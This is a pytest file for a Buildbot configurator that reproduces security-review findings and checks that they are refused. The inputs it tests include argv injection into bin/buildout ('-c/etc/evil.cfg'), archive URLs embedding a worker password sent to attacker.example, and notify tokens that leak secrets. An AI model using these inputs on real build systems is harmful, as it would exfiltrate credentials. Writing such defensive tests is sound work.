"""What a manifest author cannot reach through a loaded configuration.

Reproductions of the security review of issue 10 (they failed on main at
0a9aab7) and the rules that close them: no ``bin/buildout`` option from
``buildout-options`` or ``buildout-part``, no master secret in an archive
URL, no worker password (nor any secret the admin did not list) sent by a
``notify`` line. The configurator is run as master.cfg runs it
(``populate``), on the files a manifest author and a worker admin write.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
from buildbot.process.properties import Interpolate

from anybox_buildbot import BuildoutsConfigurator, ConfigError

WORKERS = """\
[w1]
password = %(secret:w1pass)s
capability = postgresql 13
"""
GIT = "buildout = git https://git.example.com/app.git main buildout.cfg"


def _master(root: Path, manifest: str, **kwargs) -> BuildoutsConfigurator:
    (root / "buildouts").mkdir(parents=True, exist_ok=True)
    (root / "buildouts" / "MANIFEST.cfg").write_text(textwrap.dedent(manifest))
    (root / "buildouts" / "app.cfg").write_text("[buildout]\nparts =\n")
    (root / "workers.cfg").write_text(WORKERS)
    return BuildoutsConfigurator(root, {}, **kwargs)


def _commands(conf: BuildoutsConfigurator, buildout: str) -> list[list]:
    return [list(step.kwargs["command"]) for step in conf.build_factories[buildout].steps
            if isinstance(step.kwargs.get("command"), list)]


def _errors(conf: BuildoutsConfigurator) -> list[str]:
    with pytest.raises(ConfigError) as info:
        conf.populate()
    return info.value.errors


# --------------------------------------------------------------------------- #
# buildout-options and buildout-part: never an option of bin/buildout
# --------------------------------------------------------------------------- #

@pytest.mark.parametrize("line", ["-c/etc/evil.cfg:x=y", "-D:a=b", "-oNU:buildout=z"])
def test_buildout_options_never_start_with_a_dash(tmp_path: Path, line: str) -> None:
    """``_BUILDOUT_OPTION`` let the section start with '-': the word lands
    in bin/buildout's argv after the assignments, where zc.buildout still
    reads options (``-c FILE`` glued: a config outside the checkout, which
    the CFG rules refuse; ``-D``: pdb on error, the build hangs)."""
    conf = _master(tmp_path, f"""\
        [a]
        {GIT}
        buildout-options = {line}
        """)
    try:
        conf.populate()
    except ConfigError:
        return  # refused at its line: what the rules ask
    buildout = _buildout_argv(conf, "a")
    assert not any(isinstance(w, str) and w.startswith("-") for w in buildout[3:]), buildout


def _buildout_argv(conf, builder: str) -> list:
    """bin/buildout's argv, as the worker's anybox-buildout.py passes it on
    (everything after its ``--``)."""
    wrapped = next(c for c in _commands(conf, builder)
                   if c[:2] == ["venv/bin/python", "anybox-buildout.py"])
    return wrapped[wrapped.index("--") + 1:]


@pytest.mark.parametrize("line, name", [
    ("-c/etc/evil.cfg:x=y", "section name '-c/etc/evil.cfg'"),
    ("buildout:-D=x", "option name '-D'"),
    (".hidden:x=y", "section name '.hidden'"),
    ("a/b:x=y", "section name 'a/b'"),
])
def test_bad_buildout_option_names_are_errors_at_their_line(tmp_path: Path, line: str,
                                                            name: str) -> None:
    conf = _master(tmp_path, f"""\
        [a]
        {GIT}
        buildout-options = buildout:newest=false
                           {line}
        """)
    (message,) = _errors(conf)
    assert message.startswith("buildouts/MANIFEST.cfg:4: buildout [a] buildout-options: "
                              f"invalid buildout {name}: {line!r} (section and option "
                              "names are letters, digits"), message


def test_real_buildout_options_are_kept(tmp_path: Path) -> None:
    conf = _master(tmp_path, f"""\
        [a]
        {GIT}
        buildout-options = versions:zc.buildout=3.0.1
                           buildout:always-checkout=force
                           odoo_1:options.admin_passwd=-not-an-option
        """)
    conf.populate()
    buildout = _buildout_argv(conf, "a")
    assert buildout[-3:] == ["versions:zc.buildout=3.0.1", "buildout:always-checkout=force",
                             "odoo_1:options.admin_passwd=-not-an-option"]


@pytest.mark.parametrize("part", ["-c", "../odoo", "bin/odoo", "odoo part"])
def test_buildout_part_is_a_part_name_at_its_line(tmp_path: Path, part: str) -> None:
    """Refused where it is written, whether a step set uses it yet or not."""
    conf = _master(tmp_path, f"""\
        [a]
        {GIT}
        buildout-part = {part}
        """)
    (message,) = _errors(conf)
    assert message.startswith("buildouts/MANIFEST.cfg:3: buildout [a] buildout-part: "
                              f"invalid buildout part name: {part!r}"), message


def test_functional_parts_are_part_names(tmp_path: Path) -> None:
    conf = _master(tmp_path, f"""\
        [a]
        {GIT}
        post-buildout-steps = functional
        functional.commands = bin/test
        functional.parts = selenium -c/etc/evil.cfg
        """)
    (message,) = _errors(conf)
    assert "invalid buildout part name" in message and "'-c/etc/evil.cfg'" in message


# --------------------------------------------------------------------------- #
# archive URLs: build properties only, never a master secret
# --------------------------------------------------------------------------- #

def test_archive_url_cannot_send_a_master_secret_to_any_host(tmp_path: Path) -> None:
    """vcsref documented ``%(prop:NAME)s`` for archive URLs, but accepted
    any ``%(...)s``: ``%(secret:NAME)s`` made the worker GET
    https://attacker.example/<worker password> (the log hides it, the
    network request does not)."""
    conf = _master(tmp_path, """\
        [a]
        buildout = archive https://attacker.example/%(secret:w1pass)s.tar.gz buildout.cfg
        """)
    try:
        conf.populate()
    except ConfigError:
        return
    fetch = next(c for c in _commands(conf, "a") if "anybox-fetch_archive.py" in c)
    url = fetch[fetch.index("--") + 1]
    assert not (isinstance(url, Interpolate) and "%(secret:" in url.fmtstring), fetch


def test_archive_url_with_a_property_is_still_interpolated(tmp_path: Path) -> None:
    conf = _master(tmp_path, """\
        [a]
        buildout = archive https://dl.example.com/app-%(prop:version:-1.0)s.tgz buildout.cfg
        """)
    conf.populate()
    fetch = next(c for c in _commands(conf, "a") if "anybox-fetch_archive.py" in c)
    url = fetch[fetch.index("--") + 1]
    assert url == Interpolate("https://dl.example.com/app-%(prop:version:-1.0)s.tgz")


# --------------------------------------------------------------------------- #
# notify: which secrets a manifest may send
# --------------------------------------------------------------------------- #

def test_notify_token_cannot_be_a_worker_password_sent_to_any_server(tmp_path: Path) -> None:
    """``gitea URL token=%(secret:NAME)s`` took any URL and any secret
    name: the master sent ``Authorization: token <w1's password>`` to
    attacker.example on every build."""
    conf = _master(tmp_path, f"""\
        [a]
        {GIT}
        notify = gitea https://attacker.example/ token=%(secret:w1pass)s
        """)
    with pytest.raises(ConfigError):
        conf.populate()


def test_worker_password_secret_error_is_at_the_notify_line_once(tmp_path: Path) -> None:
    conf = _master(tmp_path, f"""\
        [DEFAULT]
        notify = mail ops@example.com
                 github acme/app token=%(secret:w1pass)s

        [a]
        {GIT}

        [b]
        {GIT}
        """)
    (message,) = _errors(conf)
    assert message == ("buildouts/MANIFEST.cfg:3: buildout [a] notify: secret 'w1pass' is "
                       "the password of worker 'w1': a manifest cannot send it anywhere: "
                       "'github acme/app token=%(secret:w1pass)s' (give the status server "
                       "its own token, in a secret of its own)")


def test_notify_token_cannot_be_the_smtp_password(tmp_path: Path) -> None:
    conf = _master(tmp_path, f"""\
        [a]
        {GIT}
        notify = github acme/app token=%(secret:relay)s
        """, smtp_user="ci", smtp_password="%(secret:relay)s")
    (message,) = _errors(conf)
    assert "secret 'relay' is the master's smtp_password" in message


def test_manifest_secrets_lists_the_only_secrets_manifests_may_use(tmp_path: Path) -> None:
    manifest = f"""\
        [a]
        {GIT}
        notify = github acme/app token=%(secret:gh_token)s
                 gitlab acme/app token=%(secret:db_password)s
        """
    (message,) = _errors(_master(tmp_path, manifest, manifest_secrets=["gh_token"]))
    assert message.startswith("buildouts/MANIFEST.cfg:4: buildout [a] notify: secret "
                              "'db_password' is not one manifests may use"), message
    assert "manifest_secrets= (now: gh_token)" in message
    conf = _master(tmp_path, manifest, manifest_secrets=("gh_token", "db_password"))
    conf.populate()
    names = sorted(s.name for s in conf.config["services"])
    assert names == ["anybox-notify:github:https://api.github.com#gh_token",
                     "anybox-notify:gitlab:https://gitlab.com#db_password"]


def test_manifest_secrets_cannot_list_a_worker_password(tmp_path: Path) -> None:
    conf = _master(tmp_path, f"[a]\n{GIT}\n", manifest_secrets="w1pass")
    (message,) = _errors(conf)
    assert message == ("BuildoutsConfigurator: manifest_secrets lists 'w1pass', which is the "
                       "password of worker 'w1' (a manifest names the server its secrets "
                       "are sent to: list only tokens meant for such servers)")


@pytest.mark.parametrize("value", [[""], ["a b"], [3], ["x)s"]])
def test_bad_manifest_secrets_is_a_config_error(tmp_path: Path, value) -> None:
    with pytest.raises(ConfigError, match="manifest_secrets: .* is not a secret name"):
        _master(tmp_path, f"[a]\n{GIT}\n", manifest_secrets=value)
